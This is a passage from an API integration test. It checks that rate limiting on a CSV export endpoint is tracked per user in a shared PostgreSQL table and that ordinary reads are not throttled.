    expect(limited.body.details).toEqual({ retryAfterSeconds: wait });
    // Another user keeps their own allowance; reading the portfolio itself is never limited.
    await other.get('/api/v1/exports/actions.csv').expect(200);
    await staff.get('/api/v1/actions').expect(200);
    // The counter lives in PostgreSQL (rate_limits), so replicas share it like sign-in limits.
    const rows = await t.db.query(`SELECT count FROM rate_limits WHERE key = $1`, [
      `exports:user:${staff.user.id}`,
    ]);
    expect(rows).toEqual([{ count: 3 }]);
  });
});
